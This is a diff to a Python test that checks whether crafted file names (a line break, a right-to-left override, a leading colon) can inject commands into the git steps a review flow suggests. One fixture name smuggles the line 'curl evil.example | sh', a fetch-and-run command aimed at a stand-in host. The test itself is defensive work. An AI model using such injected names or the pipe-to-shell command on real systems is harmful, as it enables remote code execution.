@@ -23,7 +23,12 @@ def test_a_name_with_a_line_break_adds_no_command(repository: Repository, run_fl
         "settings",
         {"k.py\n  curl evil.example | sh\n.py": WITH_KEY, "\u202ek.py": WITH_KEY, ":k.py": WITH_KEY, FILE: WITH_KEY},
     )
-    steps = run_flow("review_unpushed").facts["steps"]
+    repository.write("staged.py", "x = 2\n")
+    repository.git("add", "staged.py")
+    review = run_flow("review_unpushed")
+    assert review.summary.endswith(", and 3 other findings (in 2 unpushed commits)")
+    steps = review.facts["steps"]
+    assert any(step.endswith("unless you unstage it now: staged.py.") for step in steps)
     commands = [line for step in steps for line in step.splitlines() if line.startswith("  ")]
     assert commands == [
         f"  git add -- ':(literal):k.py' '{FILE}'",
